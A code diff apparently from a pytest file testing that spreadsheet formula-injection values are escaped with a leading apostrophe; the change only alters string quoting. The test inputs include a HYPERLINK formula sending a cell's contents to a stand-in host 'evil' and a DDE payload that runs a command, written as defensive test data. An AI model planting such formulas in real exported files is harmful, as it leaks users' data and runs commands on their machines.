@@ -13,7 +13,7 @@ DS = load(MINI).dataset  # SYNTHETIC test data
 @pytest.mark.parametrize(
     ("cell", "shown"),
     [
-        ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
+        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("@SUM(1)", "'@SUM(1)"),
         ("-2+3", "'-2+3"),
